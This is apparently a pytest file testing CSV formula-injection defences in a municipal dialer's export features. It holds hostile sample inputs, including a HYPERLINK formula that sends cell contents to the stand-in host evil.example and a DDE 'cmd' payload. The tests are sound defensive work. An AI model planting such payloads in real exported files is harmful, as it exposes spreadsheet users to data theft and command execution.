"""Every CSV the project writes opens in a spreadsheet as data: a name such as
=HYPERLINK(...) becomes text (a single quote in front), numbers stay as they are."""

import csv
import io

import pytest

from dialer import campaigns
from runtime import csv_safe
from tests.fixtures.console import add_staff, sign_in
from tests.fixtures.dialer import add_residence

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(
    "value", [HOSTILE, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_a_formula_becomes_text(value):
    assert csv_safe.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+14185550101", "-3", "12.5", "Tremblay", "", 7, None])
def test_data_stays_as_it_is(value):
    assert csv_safe.cell(value) == value


@pytest.fixture
def launched(app, session):
    add_residence(session, ["+14185550101"], last_name=HOSTILE)
    campaign = campaigns.create_campaign(
        session,
        "test@saguenay.example",
        title="Avis",
        message_fr="Faites bouillir l'eau.",
        target={"all": True},
    )
    campaigns.launch(app, campaign.id, "tester")
    return campaign.id


def first_row(text: str) -> dict:
    return next(csv.DictReader(io.StringIO(text)))


def test_the_console_export_neutralises_formulas(app, client, launched):
    add_staff(app, "operateur@saguenay.ca")
    sign_in(client, "operateur@saguenay.ca")
    text = client.get(f"/staff/campaigns/{launched}/export.csv").text
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert row["Nom"] == "'" + HOSTILE


def test_the_cli_export_neutralises_formulas(runner, launched):
    result = runner.invoke(args=["campaign", "export", str(launched)])
    assert result.exit_code == 0, result.output
    row = first_row(result.output)
    assert row["last_name"] == "'" + HOSTILE
